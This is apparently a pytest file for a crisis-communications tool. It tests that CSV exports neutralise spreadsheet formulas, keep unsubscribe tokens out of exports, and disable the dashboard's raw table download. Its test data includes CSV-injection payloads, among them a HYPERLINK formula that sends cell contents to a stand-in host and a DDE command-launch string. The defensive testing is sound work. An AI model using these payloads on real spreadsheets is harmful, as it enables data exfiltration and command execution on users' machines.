"""Every CSV we write for a spreadsheet neutralises formulas (issue 14): the CLI's recipient
export through the real CLI and database, and the dashboard's table downloads."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crisiscomms.cli import app
from crisiscomms.core.spreadsheet import csv_text, neutralise

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\uff1dHYPERLINK(1)"]


@pytest.mark.parametrize(("value", "written"), [
    *((v, "'" + v) for v in HOSTILE), ("\tx", "'\tx"), ("Ada", "Ada"), ("", ""),
    ("a=b", "a=b"), (-3, -3), (1.5, 1.5), (None, None), (True, True)])
def test_text_that_would_run_as_a_formula_is_neutralised(value: object, written: object) -> None:
    assert neutralise(value) == written


def test_csv_text_neutralises_every_cell_and_keeps_the_rest() -> None:
    text = csv_text(["name", "n"], [[HOSTILE[0], -4], ['say "hi", ok', 2]])
    assert list(csv.reader(text.splitlines())) == [
        ["name", "n"], ["'" + HOSTILE[0], "-4"], ['say "hi", ok', "2"]]


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CRISISCOMMS_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("CRISISCOMMS_DATABASE_URL", raising=False)
    return tmp_path


def test_the_recipient_export_neutralises_formulas_and_holds_no_token(cli_env: Path) -> None:
    source = cli_env / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "order_ref", "unsubscribed"])
        for i, name in enumerate(HOSTILE):
            writer.writerow([f"p{i}@example.com", name, f"=cmd{i}", "yes" if i == 1 else ""])
        writer.writerow(["ada@example.com", "Ada", "ORD-1", ""])
    runner = CliRunner()
    assert runner.invoke(app, ["recipients", "import", str(source)]).exit_code == 0
    target = cli_env / "out.csv"
    result = runner.invoke(app, ["recipients", "export", str(target)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(target.open(newline="", encoding="utf-8")))
    assert rows[0] == ["email", "name", "locale", "time_zone", "plan", "product", "order_ref",
                       "lists", "unsubscribed"]
    by_email = {row[0]: row for row in rows[1:]}
    assert [by_email[f"p{i}@example.com"][1] for i in range(len(HOSTILE))] == [
        "'" + name for name in HOSTILE]
    assert by_email["p0@example.com"][6] == "'=cmd0"
    assert by_email["ada@example.com"][1:3] == ["Ada", "en"]
    assert [by_email[f"p{i}@example.com"][8] for i in range(2)] == ["false", "true"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    from sqlmodel import Session, select

    from crisiscomms.audience.models import Recipient
    from crisiscomms.core.database import make_engine

    with Session(make_engine(f"sqlite:///{cli_env / 'data' / 'crisiscomms.db'}")) as s:
        tokens = [r.unsubscribe_token for r in s.exec(select(Recipient))]
    assert tokens and not any(t and t in target.read_text() for t in tokens)


def test_the_dashboard_turns_off_the_unneutralised_table_download() -> None:
    from crisiscomms.cli.users import dashboard_command

    command = dashboard_command("127.0.0.1", 8501)
    assert command[command.index("--client.disableDataExport") + 1] == "true"
